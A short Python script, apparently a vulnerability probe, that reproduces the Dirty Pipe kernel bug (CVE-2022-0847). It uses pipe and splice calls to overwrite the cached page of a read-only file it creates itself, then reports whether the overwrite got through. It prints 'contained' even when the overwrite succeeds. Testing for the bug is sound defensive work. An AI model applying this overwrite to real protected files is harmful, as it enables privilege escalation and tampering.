# verdict: ok ; what: overwrites a read-only file's cached page through a pipe, as CVE-2022-0847 did
import os

with open("fixed", "wb") as file:
    file.write(b"original" * 512)
os.chmod("fixed", 0o444)
source = os.open("fixed", os.O_RDONLY)
outside, inside = os.pipe()
try:
    for _ in range(16):
        os.write(inside, b"x" * 4096)
    for _ in range(16):
        os.read(outside, 4096)
    os.splice(source, inside, 1, offset_src=0)
    os.write(inside, b"replaced")
except OSError:
    pass
with open("fixed", "rb") as file:
    content = file.read()
if content != b"original" * 512:
    print(f"ESCAPED: the read-only file begins with {content[:16]!r}")
print("contained")
